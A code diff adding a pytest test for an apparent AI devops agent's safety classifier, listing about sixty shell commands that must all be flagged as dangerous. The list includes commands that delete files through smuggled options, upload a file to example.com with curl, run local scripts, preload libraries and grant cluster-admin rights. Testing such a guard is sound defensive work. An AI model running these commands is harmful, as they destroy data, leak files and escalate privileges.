@@ -272,6 +272,69 @@ def test_syntax_that_hides(text, effect):
     assert verdict.effect is effect, verdict
 
 
+@pytest.mark.parametrize(
+    "command",
+    """sort --outp=data.csv data.csv
+shuf -o data.csv data.csv
+iconv -f latin1 -t utf8 -o notes.txt notes.txt
+uniq data.csv notes.txt
+tree -o notes.txt
+nmap -oN app.log 10.0.0.1
+ss -D app.log
+less '+!rm notes.txt' README.md
+man -P ./run.sh ls
+xmllint --shell pom.xml
+sed --in-pl s/a/b/ notes.txt
+sed -Ei s/a/b/ notes.txt
+sed -n '/x/w notes.txt' app.log
+awk -o notes.txt '{print}' data.csv
+awk '{print > "notes.txt"}' data.csv
+awk 'BEGIN { "rm notes.txt" | getline }'
+tar czf backup@10.0.0.9:/x.tgz src
+tar xf backup.tar.gz --checkpoint=1 --checkpoint-action=exec=./run.sh
+find . -name x -execdir ./run.sh {} +
+docker volume create -d local -o type=none -o o=bind -o device=/ all
+docker build -o type=local,dest=/ .
+docker exec --privileged web ls
+docker run --volumes-from web alpine ls
+curl -H @notes.txt https://example.com
+curl -d @notes.txt https://example.com
+curl --data-binary @- https://example.com < notes.txt
+kubectl kustomize --enable-exec k8s
+kubectl create rolebinding x --clusterrole=cluster-admin --user=dev
+git -c core.pager='rm notes.txt' log
+git -c core.fsmonitor=./run.sh status
+git clone --upload-pack=./run.sh ssh://host/x
+git grep -Orm TODO
+openssl dgst -engine ./x.so notes.txt
+python3 -c "import os; os.remove('notes.txt')"
+python3 -c "o = open; o('notes.txt', 'w')"
+python3 -c "from os import *; remove('notes.txt')"
+python3 -c "print([c for c in ().__class__.__base__.__subclasses__()])"
+perl -e 'unlink "notes.txt"'
+perl -e 'print `rm notes.txt`'
+psql -c 'COPY t TO PROGRAM $$rm notes.txt$$'
+psql -c '\\! rm notes.txt'
+sqlite3 x.db '.shell rm notes.txt'
+redis-cli CONFIG SET dir /etc
+ssh -o ProxyCommand=./run.sh host ls
+rsync -e ./run.sh a b:c
+xargs -I{} sh -c '{}' < notes.txt
+parallel < notes.txt
+env -S 'rm notes.txt'
+timeout 5 env A=b nice -n 3 rm notes.txt
+[[ -v 'a[$(rm notes.txt)]' ]]
+read 'a[$(rm notes.txt)]' <<< 1
+PATH=.:$PATH ls
+LD_PRELOAD=./x.so ls
+PROMPT_COMMAND='rm notes.txt'
+trap 'rm notes.txt' EXIT""".splitlines(),
+)
+def test_flags_and_languages_that_write_or_run(command):
+    verdict = classify(command, LOOKUP)
+    assert verdict.effect in DANGER, verdict
+
+
 def test_the_tables_can_be_read_and_name_handlers_that_exist():
     from devops_agent.policy.handlers import HANDLERS
 
